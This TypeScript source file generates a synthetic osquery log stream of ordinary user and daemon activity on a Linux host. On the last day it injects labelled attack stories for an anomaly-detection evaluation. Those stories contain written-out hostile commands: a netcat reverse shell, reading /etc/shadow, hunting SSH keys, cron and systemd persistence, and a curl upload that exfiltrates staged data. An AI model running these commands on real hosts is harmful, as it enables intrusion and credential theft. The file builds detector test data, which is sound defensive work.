// A realistic multi-user, multi-day osquery result stream for one Linux host, in exactly the
// format osqueryd's filesystem logger writes (event format; snapshot lines for snapshot
// queries), with the query names of packs/user-behavior.conf. Three users have distinct
// habits: alice the admin, bob the developer, svc-backup the service account; the host's
// daemons make up the rest. On the last day a handful of attack stories are woven in. They
// carry no marker: the product finds them only because they are rare for that user.

export interface DemoOptions {
  seed: number;
  days: number;
  /** unixTime of the first day's midnight (UTC) */
  start: number;
  host: string;
  attacks: boolean;
}

export interface AttackStory {
  name: string;
  user: string;
  description: string;
  from: number;
  to: number;
  /** indexes into `lines` of the rows that belong to the story */
  lines: number[];
}

export interface DemoStream {
  lines: string[];
  stories: AttackStory[];
}

const PACK = 'pack_user-behavior_';
const DAY = 86400;
const HOUR = 3600;
const UNSET_AUID = '4294967295';

interface User {
  name: string;
  uid: string;
  home: string;
}

const ALICE: User = { name: 'alice', uid: '1001', home: '/home/alice' };
const BOB: User = { name: 'bob', uid: '1002', home: '/home/bob' };
const BACKUP: User = { name: 'svc-backup', uid: '998', home: '/var/lib/svc-backup' };
export const DEMO_USERS = [
  { uid: '0', username: 'root' },
  { uid: ALICE.uid, username: ALICE.name },
  { uid: BOB.uid, username: BOB.name },
  { uid: BACKUP.uid, username: BACKUP.name },
];

/** mulberry32: a small seeded PRNG, so a seed always gives the same stream */
export function seededRandom(seed: number): () => number {
  let s = seed >>> 0;
  return () => {
    s = (s + 0x6d2b79f5) >>> 0;
    let x = Math.imul(s ^ (s >>> 15), s | 1);
    x ^= x + Math.imul(x ^ (x >>> 7), x | 61);
    return ((x ^ (x >>> 14)) >>> 0) / 4294967296;
  };
}

const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
const WEEKDAYS = ['Sun', 'Mon', 'Tue', 'Wed', 'Thu', 'Fri', 'Sat'];

/** osquery's calendarTime: "Sat Nov 21 09:15:02 2026 UTC" */
export function calendarTime(t: number): string {
  const d = new Date(t * 1000);
  const p = (n: number) => String(n).padStart(2, '0');
  return `${WEEKDAYS[d.getUTCDay()]} ${MONTHS[d.getUTCMonth()]} ${p(d.getUTCDate())} ${p(d.getUTCHours())}:${p(d.getUTCMinutes())}:${p(d.getUTCSeconds())} ${d.getUTCFullYear()} UTC`;
}

type Habit = [path: string, cmdline: string];

const ALICE_HABITS: Habit[] = [
  ['/usr/bin/sudo', 'sudo systemctl status nginx'],
  ['/usr/bin/sudo', 'sudo systemctl restart nginx'],
  ['/usr/bin/sudo', 'sudo journalctl -u nginx --since today'],
  ['/usr/bin/sudo', 'sudo apt-get update'],
  ['/usr/bin/sudo', 'sudo apt-get upgrade -y'],
  ['/usr/bin/systemctl', 'systemctl list-units --failed'],
  ['/usr/bin/journalctl', 'journalctl -p err -b'],
  ['/usr/bin/vim', 'vim /etc/nginx/sites-available/default'],
  ['/usr/bin/less', 'less /var/log/nginx/error.log'],
  ['/usr/bin/top', 'top'],
  ['/usr/bin/df', 'df -h'],
  ['/usr/bin/free', 'free -m'],
  ['/usr/bin/ls', 'ls -la /etc/nginx'],
  ['/usr/bin/grep', 'grep -r server_name /etc/nginx'],
  ['/usr/bin/ssh', 'ssh db-01.internal'],
  ['/usr/bin/ss', 'ss -tlnp'],
];

const BOB_HABITS: Habit[] = [
  ['/usr/bin/git', 'git status'],
  ['/usr/bin/git', 'git pull --rebase'],
  ['/usr/bin/git', 'git commit -m wip'],
  ['/usr/bin/git', 'git push origin main'],
  ['/usr/bin/git', 'git diff HEAD~1'],
  ['/usr/bin/node', 'node server.js'],
  ['/usr/bin/npm', 'npm test'],
  ['/usr/bin/npm', 'npm install'],
  ['/usr/bin/npm', 'npm run build'],
  ['/usr/bin/vim', 'vim src/app.ts'],
  ['/usr/bin/vim', 'vim README.md'],
  ['/usr/bin/make', 'make -j4'],
  ['/usr/bin/gcc', 'gcc -O2 -c parser.c'],
  ['/usr/bin/ls', 'ls -la'],
  ['/usr/bin/cat', 'cat package.json'],
  ['/usr/bin/curl', 'curl -s http://localhost:3000/health'],
  ['/usr/bin/python3', 'python3 scripts/migrate.py'],
];

interface Row {
  time: number;
  query: string;
  columns: Record<string, string>;
  action: 'added' | 'removed' | 'snapshot';
  story?: string;
}

export function generateDemo(opts: DemoOptions): DemoStream {
  const r = seededRandom(opts.seed);
  const pick = <T>(a: readonly T[]): T => a[Math.floor(r() * a.length)];
  const rows: Row[] = [];
  let pid = 3000;
  let counter = 0;
  const proc = (time: number, user: User | null, path: string, cmdline: string, parent: number, cwd: string, story?: string, euid?: string): number => {
    const p = ++pid;
    const uid = user?.uid ?? '0';
    rows.push({
      time,
      query: 'process_events',
      action: 'added',
      story,
      columns: {
        pid: String(p), path, mode: '0100755', cmdline, cwd, auid: user ? user.uid : UNSET_AUID, uid: euid === '0' ? '0' : uid, euid: euid ?? uid, gid: uid, egid: uid,
        owner_uid: '0', owner_gid: '0', atime: String(time - 86400), mtime: String(opts.start - 30 * DAY), ctime: String(opts.start - 30 * DAY), btime: '0',
        parent: String(parent), time: String(time), uptime: String(time - opts.start + 1000), syscall: 'execve',
      },
    });
    return p;
  };
  const connect = (time: number, user: User | null, procPid: number, path: string, addr: string, port: number, story?: string) =>
    rows.push({
      time,
      query: 'socket_events',
      action: 'added',
      story,
      columns: { action: 'connect', pid: String(procPid), path, fd: String(3 + Math.floor(r() * 20)), auid: user ? user.uid : UNSET_AUID, family: '2', protocol: '6', local_address: '10.0.2.15', remote_address: addr, local_port: String(32768 + Math.floor(r() * 28000)), remote_port: String(port), time: String(time), uptime: '0', status: 'succeeded', success: '1' },
    });
  const login = (time: number, user: User, from: string, story?: string): number => {
    const tty = `pts/${Math.floor(r() * 4)}`;
    const sshd = proc(time, null, '/usr/sbin/sshd', `sshd: ${user.name} [priv]`, 812, '/', story);
    const shell = proc(time + 1, user, '/bin/bash', '-bash', sshd, user.home, story);
    rows.push({ time, query: 'last', action: 'added', story, columns: { username: user.name, tty, pid: String(shell), type: '7', type_name: 'user-process', time: String(time), host: from } });
    return shell;
  };
  const history = (time: number, user: User, command: string, story?: string) =>
    rows.push({ time, query: 'shell_history', action: 'added', story, columns: { uid: user.uid, username: user.name, time: String(time), command, history_file: `${user.home}/.bash_history` } });
  const fileEvent = (time: number, user: User | null, target: string, action: string, story?: string) =>
    rows.push({
      time,
      query: 'file_events',
      action: 'added',
      story,
      columns: { target_path: target, category: 'etc', action, transaction_id: String(Math.floor(r() * 1e6)), inode: String(100000 + Math.floor(r() * 900000)), uid: user?.uid ?? '0', gid: user?.uid ?? '0', mode: '0644', size: String(200 + Math.floor(r() * 4000)), atime: String(time), mtime: String(time), ctime: String(time), md5: '', sha1: '', sha256: '', hashed: '0', time: String(time) },
    });
  const listen = (time: number, procPid: number, path: string, port: number, address: string, action: 'added' | 'removed' = 'added', story?: string) =>
    rows.push({ time, query: 'listening_ports', action, story, columns: { pid: String(procPid), port: String(port), protocol: '6', family: '2', address, fd: String(3 + Math.floor(r() * 10)), socket: String(20000 + Math.floor(r() * 80000)), path, net_namespace: '4026531840' } });

  // services that listen from the first day
  const t0 = opts.start + 60;
  listen(t0, 812, '/usr/sbin/sshd', 22, '0.0.0.0');
  listen(t0, 901, '/usr/sbin/nginx', 80, '0.0.0.0');
  listen(t0, 901, '/usr/sbin/nginx', 443, '0.0.0.0');
  listen(t0, 1022, '/usr/lib/postgresql/15/bin/postgres', 5432, '127.0.0.1');
  listen(t0, 640, '/usr/sbin/chronyd', 323, '127.0.0.1');

  const lastDay = opts.days - 1;
  for (let day = 0; day < opts.days; day++) {
    const base = opts.start + day * DAY;
    const weekday = ![0, 6].includes(new Date(base * 1000).getUTCDay());

    // the host: cron ticks, timers, log rotation, time sync, apt timers
    for (let h = 0; h < 24; h++) {
      const t = base + h * HOUR + Math.floor(r() * 300);
      const cron = proc(t, null, '/usr/sbin/cron', '/usr/sbin/CRON -f', 700, '/');
      proc(t + 1, null, '/bin/sh', '/bin/sh -c [ -x /usr/lib/php/sessionclean ] && /usr/lib/php/sessionclean', cron, '/');
      connect(t + 5, null, 640, '/usr/sbin/chronyd', pick(['162.159.200.1', '162.159.200.123', '129.250.35.250']), 123);
      if (h % 6 === 0) proc(t + 30, null, '/usr/bin/systemctl', 'systemctl start apt-daily.service', 1, '/');
    }
    const rot = proc(base + 6 * HOUR + 25 * 60, null, '/usr/sbin/logrotate', '/usr/sbin/logrotate /etc/logrotate.conf', 1, '/');
    proc(base + 6 * HOUR + 25 * 60 + 2, null, '/usr/bin/gzip', 'gzip /var/log/nginx/access.log.1', rot, '/');

    // svc-backup: the backup job every six hours from 02:00, nothing else
    for (const at of [2, 8, 14, 20]) {
      const t = base + at * HOUR + Math.floor(r() * 120);
      const cron = proc(t, null, '/usr/sbin/cron', '/usr/sbin/CRON -f', 700, '/');
      const sh = proc(t + 1, BACKUP, '/bin/sh', '/bin/sh -c /usr/local/bin/backup.sh', cron, BACKUP.home);
      const script = proc(t + 2, BACKUP, '/usr/local/bin/backup.sh', '/bin/bash /usr/local/bin/backup.sh', sh, BACKUP.home);
      const stamp = new Date(t * 1000).toISOString().slice(0, 10);
      proc(t + 3, BACKUP, '/usr/bin/pg_dump', 'pg_dump -Fc appdb', script, BACKUP.home);
      for (const dir of ['/etc', '/var/www', '/srv/app']) proc(t + 20 + Math.floor(r() * 60), BACKUP, '/usr/bin/tar', `tar czf /var/backups/${dir.slice(1).replace(/\//g, '-')}-${stamp}.tgz ${dir}`, script, BACKUP.home);
      const rsync = proc(t + 120, BACKUP, '/usr/bin/rsync', 'rsync -a --delete /var/backups/ backup@10.0.9.5:/srv/backup/web-01/', script, BACKUP.home);
      const ssh = proc(t + 121, BACKUP, '/usr/bin/ssh', 'ssh -l backup 10.0.9.5 rsync --server -logDtpre.iLsfxC --delete . /srv/backup/web-01/', rsync, BACKUP.home);
      connect(t + 122, BACKUP, ssh, '/usr/bin/ssh', '10.0.9.5', 22);
      proc(t + 300, BACKUP, '/usr/bin/find', 'find /var/backups -mtime +14 -delete', script, BACKUP.home);
      for (let i = 0; i < 6; i++) fileEvent(t + 20 + i * 15, BACKUP, `/var/backups/${['etc', 'var-www', 'srv-app'][i % 3]}-${stamp}.tgz`, i < 3 ? 'CREATED' : 'UPDATED');
    }

    // alice, the admin: weekdays 08–18 from her workstation
    if (weekday) {
      const sessions = 2 + Math.floor(r() * 2);
      for (let s = 0; s < sessions; s++) {
        let t = base + (8 + s * 3 + Math.floor(r() * 2)) * HOUR + Math.floor(r() * 1800);
        const shell = login(t, ALICE, '10.0.4.17');
        rows.push({ time: t + 5, query: 'logged_in_users', action: 'snapshot', columns: { type: 'user', user: ALICE.name, tty: 'pts/1', host: '10.0.4.17', time: String(t), pid: String(shell) } });
        const n = 25 + Math.floor(r() * 25);
        for (let i = 0; i < n; i++) {
          t += 20 + Math.floor(r() * 200);
          const [path, cmd] = pick(ALICE_HABITS);
          const p = proc(t, ALICE, path, cmd, shell, ALICE.home);
          if (path === '/usr/bin/sudo') proc(t + 1, ALICE, `/usr/bin/${cmd.split(' ')[1]}`, cmd.slice(5), p, ALICE.home, undefined, '0');
          if (cmd.includes('apt-get update')) connect(t + 2, ALICE, p, '/usr/lib/apt/methods/http', pick(['151.101.2.132', '151.101.66.132']), 80);
          if (path === '/usr/bin/ssh') connect(t + 1, ALICE, p, path, '10.0.5.20', 22);
          if (r() < 0.5) history(t, ALICE, cmd);
          if (cmd.includes('vim /etc/nginx')) fileEvent(t + 60, ALICE, '/etc/nginx/sites-available/default', 'UPDATED');
        }
      }
    }

    // bob, the developer: weekdays 09–19, sometimes an evening, from the office or the VPN
    if (weekday || r() < 0.3) {
      const sessions = weekday ? 3 : 1;
      for (let s = 0; s < sessions; s++) {
        let t = base + (9 + s * 3 + Math.floor(r() * 3)) * HOUR + Math.floor(r() * 1800);
        const from = r() < 0.7 ? `10.0.8.${20 + Math.floor(r() * 10)}` : `172.16.4.${10 + Math.floor(r() * 20)}`;
        const shell = login(t, BOB, from);
        rows.push({ time: t + 5, query: 'logged_in_users', action: 'snapshot', columns: { type: 'user', user: BOB.name, tty: 'pts/2', host: from, time: String(t), pid: String(shell) } });
        const n = 35 + Math.floor(r() * 30);
        for (let i = 0; i < n; i++) {
          t += 15 + Math.floor(r() * 150);
          const [path, cmd] = pick(BOB_HABITS);
          const p = proc(t, BOB, path, cmd, shell, `${BOB.home}/src/webapp`);
          if (cmd.startsWith('git p')) connect(t + 1, BOB, proc(t + 1, BOB, '/usr/bin/ssh', 'ssh git@github.com git-upload-pack', p, `${BOB.home}/src/webapp`), '/usr/bin/ssh', '140.82.121.4', 22);
          if (cmd === 'npm install') connect(t + 2, BOB, p, '/usr/bin/node', '104.16.24.35', 443);
          if (cmd.startsWith('curl')) connect(t + 1, BOB, p, path, '127.0.0.1', 3000);
          if (path === '/usr/bin/make') proc(t + 2, BOB, '/usr/bin/gcc', 'gcc -O2 -c lexer.c', p, `${BOB.home}/src/webapp`);
          if (r() < 0.6) history(t, BOB, cmd);
          if (path === '/usr/bin/vim') fileEvent(t + 90, BOB, `${BOB.home}/src/webapp/${cmd.split(' ')[1]}`, 'UPDATED');
        }
      }
    }

    if (opts.attacks && day === lastDay) attackStories(base);
  }

  function attackStories(base: number): void {
    // 1. bob, who never uses sudo, becomes root
    let t = base + 15 * HOUR + 12 * 60;
    const bobShell = login(t - 600, BOB, '10.0.8.23');
    const sudo = proc(t, BOB, '/usr/bin/sudo', 'sudo su -', bobShell, BOB.home, 'sudo by a user who never uses it', '0');
    const rootShell = proc(t + 2, BOB, '/bin/bash', '-bash', sudo, '/root', 'sudo by a user who never uses it', '0');
    history(t, BOB, 'sudo su -', 'sudo by a user who never uses it');

    // 2. a new listener on a high port, started from that root shell
    t += 300;
    const listener = proc(t, BOB, '/tmp/.cache/kworkerd', '/tmp/.cache/kworkerd -l -p 31337', rootShell, '/tmp/.cache', 'a new listener on a high port', '0');
    listen(t + 1, listener, '/tmp/.cache/kworkerd', 31337, '0.0.0.0', 'added', 'a new listener on a high port');

    // 3. persistence: a systemd unit and a crontab entry
    t += 240;
    fileEvent(t, null, '/etc/systemd/system/dbus-update.service', 'CREATED', 'cron or systemd persistence');
    proc(t + 5, BOB, '/usr/bin/systemctl', 'systemctl enable --now dbus-update.service', rootShell, '/root', 'cron or systemd persistence', '0');
    proc(t + 30, BOB, '/usr/bin/crontab', 'crontab /tmp/.cache/c', rootShell, '/root', 'cron or systemd persistence', '0');
    fileEvent(t + 31, null, '/var/spool/cron/crontabs/root', 'UPDATED', 'cron or systemd persistence');

    // 4. a reverse shell to a new public address
    t = base + 23 * HOUR + 41 * 60;
    const nc = proc(t, BOB, '/usr/bin/nc', 'nc -e /bin/sh 203.0.113.50 4444', bobShell, '/tmp', 'a reverse shell');
    connect(t + 1, BOB, nc, '/usr/bin/nc', '203.0.113.50', 4444, 'a reverse shell');
    const py = proc(t + 40, BOB, '/usr/bin/python3', `python3 -c 'import pty;pty.spawn("/bin/bash")'`, nc, '/tmp', 'a reverse shell');
    proc(t + 45, BOB, '/bin/bash', '/bin/bash', py, '/tmp', 'a reverse shell');

    // 5. alice logs in from a new public address at 03:00
    t = base + 3 * HOUR + 7 * 60;
    const shell = login(t, ALICE, '198.51.100.23', 'a login from a new address at an unusual hour');
    rows.push({ time: t + 5, query: 'logged_in_users', action: 'snapshot', story: 'a login from a new address at an unusual hour', columns: { type: 'user', user: ALICE.name, tty: 'pts/3', host: '198.51.100.23', time: String(t), pid: String(shell) } });
    proc(t + 30, ALICE, '/usr/bin/id', 'id', shell, ALICE.home, 'a login from a new address at an unusual hour');
    proc(t + 45, ALICE, '/usr/bin/cat', 'cat /etc/shadow', shell, ALICE.home, 'a login from a new address at an unusual hour');

    // 6. staging and compressing data, then sending it out
    t += 20 * 60;
    const st = 'staging and compressing data before exfiltration';
    proc(t, ALICE, '/usr/bin/find', "find /home /srv -name *.pem -o -name id_rsa", shell, ALICE.home, st);
    proc(t + 20, ALICE, '/usr/bin/mkdir', 'mkdir -p /dev/shm/.s', shell, ALICE.home, st);
    proc(t + 25, ALICE, '/usr/bin/cp', 'cp -r /srv/app/config /home/bob/.ssh /dev/shm/.s', shell, ALICE.home, st);
    proc(t + 40, ALICE, '/usr/bin/tar', 'tar czf /dev/shm/.s.tgz /dev/shm/.s', shell, ALICE.home, st);
    const curl = proc(t + 60, ALICE, '/usr/bin/curl', 'curl -s -T /dev/shm/.s.tgz https://198.51.100.77/u', shell, ALICE.home, st);
    connect(t + 61, ALICE, curl, '/usr/bin/curl', '198.51.100.77', 443, st);
    history(t + 60, ALICE, 'curl -s -T /dev/shm/.s.tgz https://198.51.100.77/u', st);
  }

  rows.sort((a, b) => a.time - b.time);
  const lines: string[] = [];
  const storyLines = new Map<string, number[]>();
  const decorations = { host_uuid: '6f1c2a9e-0b7d-4c55-9a1e-2d6f8e0c4b11' };
  for (const row of rows) {
    counter++;
    const head = { name: `${PACK}${row.query}`, hostIdentifier: opts.host, calendarTime: calendarTime(row.time), unixTime: row.time, epoch: 0, counter, numerics: false, decorations };
    // snapshot queries log one line per run with all rows; this stream has one row per run
    const line = row.action === 'snapshot' ? JSON.stringify({ snapshot: [row.columns], action: 'snapshot', ...head }) : JSON.stringify({ ...head, columns: row.columns, action: row.action });
    if (row.story) (storyLines.get(row.story) ?? storyLines.set(row.story, []).get(row.story)!).push(lines.length);
    lines.push(line);
  }
  const stories: AttackStory[] = [...storyLines].map(([name, idx]) => {
    const times = idx.map((i) => JSON.parse(lines[i]).unixTime as number);
    // the story's user: the login user most of its rows carry
    const auids = idx.map((i) => JSON.parse(lines[i]).columns?.auid).filter((a) => a && a !== UNSET_AUID);
    const auid = auids.sort((a, b) => auids.filter((x) => x === b).length - auids.filter((x) => x === a).length)[0];
    return { name, user: DEMO_USERS.find((u) => u.uid === auid)?.username ?? 'host', description: name, from: Math.min(...times), to: Math.max(...times), lines: idx };
  });
  return { lines, stories };
}

/**
 * The stream as an `anomaly eval` pair: train is every day but the last, unlabelled; test is
 * the last day (where the stories are), every line labelled `normal` or `anomalous`.
 */
export function evaluationSplit(stream: DemoStream): { train: string[]; test: string[] } {
  const times = stream.lines.map((l) => (JSON.parse(l) as { unixTime: number }).unixTime);
  const lastDay = Math.floor(times[times.length - 1] / DAY) * DAY;
  const attack = new Set(stream.stories.flatMap((s) => s.lines));
  const train: string[] = [];
  const test: string[] = [];
  stream.lines.forEach((line, i) => {
    if (times[i] < lastDay) train.push(line);
    else test.push(`${line.slice(0, -1)},"label":"${attack.has(i) ? 'anomalous' : 'normal'}"}`);
  });
  return { train, test };
}
